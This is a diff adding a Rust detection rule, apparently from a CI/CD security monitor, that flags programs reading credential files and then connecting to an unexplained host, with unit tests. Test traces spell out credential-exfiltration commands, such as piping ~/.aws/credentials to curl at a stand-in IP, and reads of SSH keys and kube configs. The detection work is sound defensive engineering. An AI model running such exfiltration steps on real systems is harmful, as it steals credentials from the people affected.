@@ -1,0 +1,269 @@
+//! A credential is read by a program that has no business with it, and the same strand of work
+//! talks to a destination nothing explains.
+//!
+//! ## What it sees
+//! A credential store (cloud, registry, SSH, agent, browser, wallet … and the `secrets:` of your
+//! policy) is opened by a program that does not own it and that the step's text does not name;
+//! below the same declared command, before or after, a connection goes to a host that neither the
+//! text, nor the nature of the command, nor the policy explains. Three different kinds of stores
+//! opened by one strand are reported without a connection too.
+//!
+//! ## Why it matters
+//! A compromised dependency or a hidden instruction takes the job's credentials and sends them
+//! away minutes before anyone looks.
+//!
+//! ## What to do
+//! Revoke the credential now. Then find what started the reading program (the chain is in the
+//! finding), and give the credential only to the step that needs it.
+//!
+//! ## Known limits
+//! What travelled inside the connection is not seen; the order and the lineage are. A credential
+//! kept in an environment variable is not a file and is not covered by this rule.
+
+use super::{Act, Detection, Hit, carried, named, sureness};
+use crate::divergence::{Effect, Explanation};
+use crate::finding::{Confidence, Kind, RuleId, Severity, Technique};
+use crate::lineage::Touch;
+
+pub const DETECTION: Detection = Detection {
+    id: RuleId("cred-file-access"),
+    severity: Severity::High,
+    confidence: Confidence::High,
+    techniques: &[Technique("T1552.001"), Technique("T1041")],
+    references: &["GHSA-cxm3-wv7p-598c", "CVE-2025-53109"],
+    frameworks: &["CICD-SEC-6", "ASI03"],
+    remedy: "Revoke this credential, then remove the package or instruction that started the reading program.",
+    source: include_str!("cred_file_access.rs"),
+    check,
+};
+
+/// Kinds of stores one strand may open before the sweep itself is the finding.
+const SWEEP: usize = 3;
+
+fn check(act: &Act<'_>) -> Vec<Hit> {
+    if act.explanation.reason().is_some() {
+        return Vec::new();
+    }
+    let strand = act.lineage.strand(act.process.key);
+    match act.effect {
+        Effect::Connect { object, .. } => carried(strand, act.process.key)
+            .into_iter()
+            .map(|read| joined(act, read, act.process.key, object, act.sequence))
+            .collect(),
+        Effect::Read { path, store, .. } => {
+            let read = Touch {
+                sequence: act.sequence,
+                time: act.time,
+                process: act.process.key,
+                object: path.clone(),
+                store: &store.id,
+                title: &store.title,
+                by_owner: false,
+            };
+            // A connection that was open before the read can carry it just as well.
+            let mut hits: Vec<Hit> = strand
+                .contacts
+                .iter()
+                .filter(|contact| act.lineage.is_at_or_below(act.process.key, contact.process))
+                .take(1)
+                .map(|contact| joined(act, &read, contact.process, &contact.object, contact.sequence))
+                .collect();
+            if hits.is_empty() {
+                hits.extend(sweep(act, path, store.title.as_str()));
+            }
+            hits
+        }
+        _ => Vec::new(),
+    }
+}
+
+fn joined(
+    act: &Act<'_>,
+    read: &Touch,
+    sender: crate::event::ProcessKey,
+    destination: &str,
+    contact: u64,
+) -> Hit {
+    let reader = named(act.lineage, read.process);
+    let who = if sender == read.process {
+        format!("{reader} read {} and connected to {destination}", read.title)
+    } else {
+        format!("{reader} read {} and {} connected to {destination}", read.title, named(act.lineage, sender))
+    };
+    Hit {
+        rule: &DETECTION,
+        kind: Kind::Attack,
+        severity: DETECTION.severity,
+        confidence: sureness(act, read.process, sender),
+        title: format!("{who}, which nothing in this step explains"),
+        process: read.process,
+        object: read.object.clone(),
+        evidence: vec![read.sequence, contact],
+        replaces: Some(RuleId("file-undeclared")),
+    }
+}
+
+fn sweep(act: &Act<'_>, path: &str, title: &str) -> Option<Hit> {
+    let strand = act.lineage.strand(act.process.key);
+    let mut stores: Vec<(&str, &str)> =
+        strand.reads.iter().filter(|read| !read.by_owner).map(|read| (read.store, read.title)).collect();
+    let evidence = strand.reads.iter().filter(|read| !read.by_owner).map(|read| read.sequence).collect();
+    stores.sort_unstable();
+    stores.dedup();
+    let titles: Vec<&str> = stores.iter().map(|(_, title)| *title).filter(|other| *other != title).collect();
+    if titles.len() + 1 < SWEEP || matches!(act.explanation, Explanation::Own(_)) {
+        return None;
+    }
+    Some(Hit {
+        rule: &DETECTION,
+        kind: Kind::Attack,
+        severity: DETECTION.severity,
+        confidence: Confidence::Medium,
+        title: format!(
+            "{} read {title} after {}, none of which this step names",
+            named(act.lineage, act.process.key),
+            titles.join(", ")
+        ),
+        process: act.process.key,
+        object: path.to_owned(),
+        evidence,
+        replaces: Some(RuleId("file-undeclared")),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::trace::expect;
+
+    const STOLEN: &[&str] = &[
+        "!cred-file-access attack high /home/u/.aws/credentials",
+        "!egress-undeclared attack high 203.0.113.7:8443",
+    ];
+
+    #[test]
+    fn an_install_script_reads_a_credential_and_connects() {
+        expect(
+            "npm ci\n",
+            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
+             2 > 3 launch /usr/bin/dash sh -c node\\ setup.js
+             3 > 4 launch /usr/bin/node node setup.js
+             4 > 5 launch /usr/bin/dash sh -c x
+             5 > 6 launch /usr/bin/cat cat ~/.aws/credentials
+             6 read ~/.aws/credentials
+             5 > 7 launch /usr/bin/curl curl --data-binary @- http://203.0.113.7:8443/
+             7 connect 203.0.113.7:8443",
+            STOLEN,
+        );
+    }
+
+    #[test]
+    fn the_same_in_the_other_order_and_in_one_process() {
+        expect(
+            "make all\n",
+            "1 > 2 launch /usr/bin/make make all
+             2 > 3 launch /usr/bin/python3.11 python3 gen.py
+             3 connect 203.0.113.7:8443
+             3 read ~/.aws/credentials",
+            STOLEN,
+        );
+    }
+
+    #[test]
+    fn detached_and_with_a_borrowed_name_it_is_the_same() {
+        expect(
+            "pip install ./vendored\n",
+            "1 > 2 launch /usr/bin/python3.11 python3 /usr/bin/pip install ./vendored
+             2 > 3 launch /usr/bin/python3.11 python3 /w/hook.py
+             3 > 4
+             4 > 5 launch /tmp/aws aws s3 ls
+             3 exit
+             4 exit
+             5 read ~/.aws/credentials
+             5 connect 203.0.113.7:8443",
+            STOLEN,
+        );
+    }
+
+    #[test]
+    fn three_kinds_of_stores_in_one_strand_are_a_sweep() {
+        expect(
+            "npm ci\n",
+            "1 > 2 launch /usr/bin/node node /usr/bin/npm ci
+             2 > 3 launch /usr/bin/node node collect.js
+             3 read ~/.aws/credentials
+             3 read ~/.ssh/id_ed25519
+             3 read ~/.kube/config",
+            &[
+                "!cred-file-access attack high /home/u/.kube/config",
+                "file-undeclared divergence low /home/u/.aws/credentials",
+                "file-undeclared divergence low /home/u/.ssh/id_ed25519",
+            ],
+        );
+    }
+
+    #[test]
+    fn owners_and_declared_reads_stay_quiet() {
+        // npm reads its own token and asks its registry; git its credential and its remote.
+        expect(
+            "npm ci\ngit push origin main\naws s3 sync out s3://bucket\n",
+            "answer registry.example 203.0.113.10
+             1 > 2 launch /usr/bin/node node /usr/bin/npm ci
+             2 read ~/.npmrc
+             2 connect 203.0.113.10:443
+             1 > 3 launch /usr/bin/git git push origin main
+             3 > 4 launch /usr/lib/git-core/git-remote-https git-remote-https origin
+             4 read ~/.git-credentials
+             4 connect 203.0.113.11:443
+             1 > 5 launch /usr/local/bin/aws aws s3 sync out s3://bucket
+             5 read ~/.aws/credentials
+             5 connect 203.0.113.12:443",
+            &[],
+        );
+        // The text names both ends.
+        expect(
+            "curl --data-binary @$HOME/.aws/credentials https://vault.example/store\n",
+            "answer vault.example 203.0.113.7
+             1 > 2 launch /usr/bin/curl curl x
+             2 read ~/.aws/credentials
+             2 connect 203.0.113.7:443",
+            &[],
+        );
+    }
+
+    #[test]
+    fn reading_without_sending_and_sending_without_reading_are_notes() {
+        expect(
+            "npm test\n",
+            "1 > 2 launch /usr/bin/node node /usr/bin/npm test
+             2 > 3 launch /usr/bin/node node node_modules/jest/bin/jest.js
+             3 read ~/.aws/credentials",
+            &["file-undeclared divergence low /home/u/.aws/credentials"],
+        );
+        expect(
+            "npm test\n",
+            "1 > 2 launch /usr/bin/node node /usr/bin/npm test
+             2 > 3 launch /usr/bin/node node node_modules/jest/bin/jest.js
+             3 connect 203.0.113.7:443",
+            &["egress-undeclared divergence low 203.0.113.7:443"],
+        );
+    }
+
+    #[test]
+    fn an_installer_that_asks_npm_and_downloads_is_no_thief() {
+        expect(
+            "npm ci\n",
+            "answer registry.example 203.0.113.10
+             answer downloads.example 203.0.113.20
+             1 > 2 launch /usr/bin/node node /usr/bin/npm ci
+             2 read ~/.npmrc
+             2 connect 203.0.113.10:443
+             2 > 3 launch /usr/bin/dash sh -c node\\ install.js
+             3 > 4 launch /usr/bin/node node install.js
+             4 > 5 launch /usr/bin/node node /usr/bin/npm install esbuild-linux
+             5 read ~/.npmrc
+             5 connect 203.0.113.10:443
+             4 connect 203.0.113.20:443",
+            &["egress-undeclared divergence low downloads.example:443"],
+        );
+    }
+}
